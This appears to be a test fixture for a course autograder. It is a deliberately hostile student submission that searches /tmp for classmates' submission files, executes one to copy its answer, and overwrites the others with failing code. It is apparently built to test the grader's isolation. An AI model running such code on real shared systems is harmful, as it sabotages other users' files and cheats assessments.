"""Hostile submission: in batch grading, finds the other students' staged files and submissions and
overwrites them with code that fails (or runs their code to copy a correct answer)."""
ATTACK = "finds classmates' staged copies and submission folders, runs one and overwrites the others"
FAILS = ['test_values', 'test_dtype']
PASSES = []
MESSAGE = 'differ'

import glob
import os

import torch

_mine = os.getcwd().rsplit("/", 1)[0]
_namespace = {}
_found = glob.glob("/tmp/torchcourse-*batch*/s*/ch00_demo/scale.py") + glob.glob("/tmp/**/ch00_demo/scale.py",
                                                                                    recursive=True)
for _path in _found:
    if os.path.realpath(_path).startswith(_mine):
        continue
    try:
        with open(_path) as _f:
            exec(_f.read(), _namespace)
        with open(_path, "w") as _f:
            _f.write("def scaled_sum(x, y, alpha):\n    return None\n")
    except Exception:
        pass


def scaled_sum(x, y, alpha):
    if "scaled_sum" in _namespace:
        return _namespace["scaled_sum"](x, y, alpha)
    return x
